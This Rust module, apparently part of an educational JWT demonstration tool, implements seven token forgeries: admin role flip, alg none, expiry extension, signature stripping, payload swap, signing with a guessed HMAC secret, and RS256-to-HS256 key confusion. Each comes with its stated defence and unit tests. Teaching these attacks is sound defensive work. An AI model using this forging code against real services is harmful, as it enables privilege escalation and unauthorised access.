//! Ways to cheat with a token: what an attacker changes, what it needs, and what stops it.
//!
//! Every change is made in the text of the JSON, so that all other bytes stay as they were.

pub mod guess;
pub mod secrets;

use std::ops::Range;

use thiserror::Error;

use super::base64url::encode;
use super::date::numeric_date;
use super::segment::Part;
use super::shape::Shape;
use super::token::Reading;
use crate::domain::jose::alg::{Alg, Hash};
use crate::domain::jose::hmac;
use crate::domain::json::Value;
use crate::domain::time::Timestamp;

/// An attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    FlipRole,
    AlgNone,
    ExtendExp,
    CutSignature,
    SwapPayload,
    GuessedSecret,
    KeyConfusion,
}

/// What an attacker has beside the token.
#[derive(Clone, Copy, Debug, Default)]
pub struct Loot<'a> {
    /// A secret that was guessed.
    pub secret: Option<&'a [u8]>,
    /// The server's public key, byte by byte as the server keeps it.
    pub public_key: Option<&'a str>,
}

/// Why an attack cannot be made on this token.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Error)]
pub enum Refusal {
    #[error("the token cannot be read as three parts with a header and claims, so there is nothing to change")]
    Unreadable,
    #[error("no secret has been guessed yet: try the list of common secrets first")]
    NoSecret,
    #[error("the token is not signed with a shared secret (HS256, HS384 or HS512), so there is none to guess")]
    NotHmac,
    #[error("this needs the server’s public key")]
    NoPublicKey,
}

impl Attack {
    /// In the order of the page.
    pub const ALL: [Self; 7] = [
        Self::FlipRole,
        Self::AlgNone,
        Self::ExtendExp,
        Self::CutSignature,
        Self::SwapPayload,
        Self::GuessedSecret,
        Self::KeyConfusion,
    ];

    /// Stable name for tests and the page's attributes.
    pub fn id(self) -> &'static str {
        match self {
            Self::FlipRole => "flip-role",
            Self::AlgNone => "alg-none",
            Self::ExtendExp => "extend-exp",
            Self::CutSignature => "cut-signature",
            Self::SwapPayload => "swap-payload",
            Self::GuessedSecret => "guessed-secret",
            Self::KeyConfusion => "key-confusion",
        }
    }

    /// Text of its button.
    pub fn title(self) -> &'static str {
        match self {
            Self::FlipRole => "Make the role admin",
            Self::AlgNone => "Set alg to none",
            Self::ExtendExp => "Extend exp by a year",
            Self::CutSignature => "Cut off the signature",
            Self::SwapPayload => "Swap the payload",
            Self::GuessedSecret => "Sign with a guessed secret",
            Self::KeyConfusion => "Sign with the public key",
        }
    }

    /// What was done to the token.
    pub fn deed(self) -> &'static str {
        match self {
            Self::FlipRole => "The payload now says role admin. The signature is still the one over the old payload.",
            Self::AlgNone => "The header now says alg none, the payload role admin, and the signature is gone.",
            Self::ExtendExp => {
                "The payload now expires a year later. The signature is still the one over the old time."
            }
            Self::CutSignature => "Header and payload are untouched; the signature after the second dot is gone.",
            Self::SwapPayload => {
                "The payload is another person’s, from another token. The signature belongs to this one."
            }
            Self::GuessedSecret => {
                "The payload says role admin, and the signature is a right one: the secret was guessed."
            }
            Self::KeyConfusion => {
                "The header says HS256 where the server uses RS256. The payload says role admin. It is signed by HMAC, with the text of the server’s public key as the secret."
            }
        }
    }

    /// What stops it.
    pub fn defence(self) -> &'static str {
        match self {
            Self::FlipRole | Self::ExtendExp | Self::SwapPayload => {
                "Verify the signature before you believe a claim. One changed bit changes it all."
            }
            Self::AlgNone => "List the algorithms that you accept, and never take that list from the token.",
            Self::CutSignature => "Treat a missing signature as a wrong one.",
            Self::GuessedSecret => {
                "No check can tell this token from a real one. Use 32 random bytes as a secret, or a key pair, and change the secret now."
            }
            Self::KeyConfusion => "Tie each key to one algorithm: an RSA key is never an HMAC secret.",
        }
    }
}

/// The payload of a token that the attacker has seen elsewhere.
const OTHER_PAYLOAD: &str = r#"{"iss":"https://id.course.example","aud":"https://api.course.example","sub":"u-7","role":"teacher","iat":1773133200,"exp":1773134100}"#;

/// A year of 365 days, in seconds.
const YEAR: i64 = 365 * 24 * 60 * 60;

/// The token after the attack. Errors: what is missing for it.
pub fn forge(attack: Attack, reading: &Reading, now: Timestamp, loot: Loot<'_>) -> Result<String, Refusal> {
    let [header, payload, signature] = &reading.segments[..] else { return Err(Refusal::Unreadable) };
    // Its payload is no base64url, and the forged one would be.
    if reading.shape == Shape::Unencoded {
        return Err(Refusal::Unreadable);
    }
    let header_json = Json::of(&header.bytes, reading.header())?;
    let payload_json = Json::of(&payload.bytes, reading.payload())?;
    let admin = || encode(payload_json.with("role", "\"admin\"").as_bytes());
    Ok(match attack {
        Attack::FlipRole => format!("{}.{}.{}", header.text, admin(), signature.text),
        Attack::AlgNone => format!("{}.{}.", encode(header_json.with("alg", "\"none\"").as_bytes()), admin()),
        Attack::ExtendExp => {
            let exp = payload_json.value.get("exp").and_then(|exp| numeric_date(exp).at).unwrap_or(now);
            let later = exp.0.max(now.0) / 1000 + YEAR;
            format!(
                "{}.{}.{}",
                header.text,
                encode(payload_json.with("exp", &later.to_string()).as_bytes()),
                signature.text
            )
        }
        Attack::CutSignature => format!("{}.{}.", header.text, payload.text),
        Attack::SwapPayload => format!("{}.{}.{}", header.text, encode(OTHER_PAYLOAD.as_bytes()), signature.text),
        Attack::GuessedSecret => {
            let hash = reading.alg().and_then(hmac_of).ok_or(Refusal::NotHmac)?;
            let secret = loot.secret.ok_or(Refusal::NoSecret)?;
            signed(&header.text, &admin(), hash, secret)
        }
        Attack::KeyConfusion => {
            let key = loot.public_key.ok_or(Refusal::NoPublicKey)?;
            let header = encode(header_json.with("alg", "\"HS256\"").as_bytes());
            signed(&header, &admin(), Hash::Sha256, key.as_bytes())
        }
    })
}

/// The hash of an HMAC algorithm; `None` for any other.
pub fn hmac_of(alg: &str) -> Option<Hash> {
    match Alg::of_name(alg)? {
        Alg::Hmac(hash) => Some(hash),
        _ => None,
    }
}

/// A compact token of two encoded parts, signed by HMAC.
pub fn signed(header: &str, payload: &str, hash: Hash, secret: &[u8]) -> String {
    let input = format!("{header}.{payload}");
    let signature = encode(&hmac::sign(hash, secret, input.as_bytes()));
    format!("{input}.{signature}")
}

/// An object and its text.
struct Json<'a> {
    text: &'a str,
    value: &'a Value,
}

impl<'a> Json<'a> {
    fn of(bytes: &'a [u8], value: Option<&'a Value>) -> Result<Self, Refusal> {
        let value = value.filter(|value| value.members().is_some()).ok_or(Refusal::Unreadable)?;
        Ok(Self { text: std::str::from_utf8(bytes).map_err(|_| Refusal::Unreadable)?, value })
    }

    /// The text with this member's value replaced, or with the member added at the end.
    fn with(&self, name: &str, value: &str) -> String {
        let replace =
            |range: Range<usize>, new: &str| format!("{}{new}{}", &self.text[..range.start], &self.text[range.end..]);
        match self.value.get(name) {
            Some(old) => replace(old.span.range(), value),
            None => {
                let end = self.value.span.range().end - 1;
                let comma = if self.value.members().is_some_and(|members| members.is_empty()) { "" } else { "," };
                replace(end..end, &format!("{comma}\"{name}\":{value}"))
            }
        }
    }
}

/// What has changed between two readings, part by part: `None` where the bytes are the same.
pub fn changed_parts(before: &Reading, after: &Reading) -> Vec<Part> {
    let same = |part: Part| {
        before.segment(part).map(|segment| &segment.text) == after.segment(part).map(|segment| &segment.text)
    };
    [Part::Header, Part::Payload, Part::Signature].into_iter().filter(|part| !same(*part)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::json;
    use crate::domain::jwt::sample;
    use crate::domain::jwt::token::decode_unverified;

    const NOW: Timestamp = Timestamp(1_773_133_500_000);
    const LOOT: Loot<'_> = Loot { secret: Some(b"guessed"), public_key: Some("-----BEGIN PUBLIC KEY-----") };

    fn forged(attack: Attack, token: &str) -> Reading {
        decode_unverified(&forge(attack, &decode_unverified(token), NOW, LOOT).unwrap())
    }

    #[test]
    fn each_attack_changes_what_it_says_and_nothing_else() {
        use Attack::*;
        use Part::{Header, Payload, Signature};
        let before = decode_unverified(sample::TOKEN);
        let cases: [(Attack, &[Part]); 7] = [
            (FlipRole, &[Payload]),
            (AlgNone, &[Header, Payload, Signature]),
            (ExtendExp, &[Payload]),
            (CutSignature, &[Signature]),
            (SwapPayload, &[Payload]),
            (GuessedSecret, &[Payload, Signature]),
            // The sample is signed by HS256 already, so its header stays.
            (KeyConfusion, &[Payload, Signature]),
        ];
        for (attack, parts) in cases {
            let after = forged(attack, sample::TOKEN);
            assert_eq!(changed_parts(&before, &after), parts, "{attack:?}");
            assert_eq!(after.faults, [], "{attack:?}");
            let role = after.payload().and_then(|payload| payload.get("role")?.as_str().map(str::to_owned));
            let expected = match attack {
                ExtendExp | CutSignature => "student",
                SwapPayload => "teacher",
                _ => "admin",
            };
            assert_eq!(role.as_deref(), Some(expected), "{attack:?}");
        }
        assert_eq!(Attack::ALL.map(|attack| attack.id()).len(), 7);
    }

    #[test]
    fn a_changed_claim_leaves_every_other_byte_of_the_json_alone() {
        let text = r#"{ "n": 1.50, "role" : "student" , "s":"\u0061" }"#;
        let value = json::read(text).unwrap();
        let json = Json::of(text.as_bytes(), Some(&value)).unwrap();
        assert_eq!(json.with("role", "\"admin\""), r#"{ "n": 1.50, "role" : "admin" , "s":"\u0061" }"#);
        assert_eq!(json.with("exp", "1"), r#"{ "n": 1.50, "role" : "student" , "s":"\u0061" ,"exp":1}"#);
        let value = json::read("{}").unwrap();
        assert_eq!(Json::of(b"{}", Some(&value)).unwrap().with("a", "1"), r#"{"a":1}"#);
    }

    #[test]
    fn a_guessed_secret_and_a_confused_key_give_right_signatures() {
        for (attack, secret) in
            [(Attack::GuessedSecret, "guessed"), (Attack::KeyConfusion, "-----BEGIN PUBLIC KEY-----")]
        {
            let token = forge(attack, &decode_unverified(sample::TOKEN), NOW, LOOT).unwrap();
            let (input, signature) = token.rsplit_once('.').unwrap();
            let right = hmac::sign(Hash::Sha256, secret.as_bytes(), input.as_bytes());
            assert_eq!(signature, encode(&right), "{attack:?}");
        }
    }

    #[test]
    fn an_attack_says_what_it_lacks() {
        let reading = decode_unverified(sample::TOKEN);
        let error = |attack, reading: &Reading| forge(attack, reading, NOW, Loot::default()).unwrap_err();
        assert_eq!(error(Attack::GuessedSecret, &reading), Refusal::NoSecret);
        assert_eq!(error(Attack::KeyConfusion, &reading), Refusal::NoPublicKey);
        // The second has its payload as it stands.
        for text in ["a.b".to_owned(), format!("{}.{{}}.AA", encode(br#"{"alg":"HS256","b64":false}"#))] {
            let reading = decode_unverified(&text);
            assert!(Attack::ALL.iter().all(|attack| error(*attack, &reading) == Refusal::Unreadable), "{text}");
        }
        let rsa = decode_unverified(&format!("{}.{}.AA", encode(br#"{"alg":"RS256"}"#), encode(b"{}")));
        assert_eq!(forge(Attack::GuessedSecret, &rsa, NOW, LOOT), Err(Refusal::NotHmac));
    }

    #[test]
    fn an_extended_life_counts_from_now_or_from_exp_whichever_is_later() {
        let exp = |reading: &Reading| reading.payload()?.get("exp")?.as_number().map(str::to_owned);
        assert_eq!(exp(&forged(Attack::ExtendExp, sample::TOKEN)).as_deref(), Some("1804670100"));
        let without = format!("{}.{}.AA", encode(br#"{"alg":"HS256"}"#), encode(b"{}"));
        assert_eq!(exp(&forged(Attack::ExtendExp, &without)).as_deref(), Some("1804669500"));
    }
}
